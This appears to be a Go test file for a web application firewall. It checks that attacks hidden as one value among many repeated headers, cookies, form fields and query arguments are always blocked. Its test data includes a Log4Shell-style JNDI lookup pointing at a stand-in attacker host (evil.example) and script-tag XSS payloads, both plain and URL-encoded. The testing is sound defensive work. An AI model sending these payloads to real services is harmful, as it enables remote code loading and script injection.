package waf

import (
	"fmt"
	"strings"
	"testing"

	"gatehouse/waf/index"
	"gatehouse/waf/variables"
)

// repeatedNames are requests with an attack as one of many values of one name,
// among other names: without them each value is in the same place for every
// rule.
func repeatedNames() []crsTest {
	headers := []variables.Pair{{Name: "Host", Value: "shop.example"}, {Name: "User-Agent", Value: "Mozilla/5.0"}, {Name: "Accept", Value: "*/*"},
		{Name: "A", Value: "1"}, {Name: "B", Value: "2"}, {Name: "C", Value: "3"}, {Name: "D", Value: "4"}, {Name: "E", Value: "5"}}
	form := func(data string) *variables.Request {
		h := append(headers[:len(headers):len(headers)], variables.Pair{Name: "Content-Type", Value: "application/x-www-form-urlencoded"},
			variables.Pair{Name: "Content-Length", Value: fmt.Sprint(len(data))})
		return request("POST", "/", "HTTP/1.1", h, data)
	}
	repeated := func(name, safe, evil string) []variables.Pair {
		h := headers[:len(headers):len(headers)]
		for range 20 {
			h = append(h, variables.Pair{Name: name, Value: safe})
		}
		return append(h, variables.Pair{Name: name, Value: evil})
	}
	const others, xss, encoded = "k=1&l=2&m=3&n=4&o=5&p=6&q=7&r=8&s=9&t=10&", "<script>alert(1)</script>", "%3Cscript%3Ealert(1)%3C/script%3E"
	of := func(name string, r *variables.Request) crsTest { return crsTest{name: name, req: r, body: r.Body.Raw} }
	return []crsTest{
		of("a header", request("GET", "/", "HTTP/1.1", repeated("X-Api-Version", "safe", "${jndi:ldap://evil.example/a}"), "")),
		of("a cookie", request("GET", "/", "HTTP/1.1", append(headers[:len(headers):len(headers)],
			variables.Pair{Name: "Cookie", Value: strings.ReplaceAll(others, "&", "; ") + strings.Repeat("c=safe; ", 20) + "c=" + xss}), "")),
		of("cookies in several headers", request("GET", "/", "HTTP/1.1", repeated("Cookie", "c=safe", "c="+xss), "")),
		of("a form field", form(others+strings.Repeat("a=safe&", 20)+"a="+encoded)),
		of("an argument of the query", request("GET", "/?"+others+strings.Repeat("a=safe&", 20)+"a="+encoded, "HTTP/1.1", headers, "")),
		of("arguments without a name", request("GET", "/?"+others+strings.Repeat("=safe&", 20)+"="+encoded, "HTTP/1.1", headers, "")),
	}
}

// TestRepeatedNamesHideNothing judges them many times. Coraza 3.8.1 alone lets
// some of these pass, by chance: its cache of transformed values takes one for
// another.
func TestRepeatedNamesHideNothing(t *testing.T) {
	oneGoroutine(t)
	j, err := newJudge(testPolicy(1))
	if err != nil {
		t.Fatal(err)
	}
	defer j.release()
	for _, tc := range repeatedNames() {
		for _, useIndex := range []bool{false, true} {
			var e index.Evaluation
			blocked := 0
			scores := map[int]int{}
			for range 200 {
				jm, err := j.request("x", tc.req, nil, &e, useIndex)
				if err != nil {
					t.Fatal(tc.name, err)
				}
				if jm.Blocked {
					blocked++
				}
				scores[jm.Score]++
			}
			if blocked != 200 || len(scores) != 1 {
				t.Errorf("%s, index %v: %d of 200 blocked, scores %v", tc.name, useIndex, blocked, scores)
			}
		}
	}
}
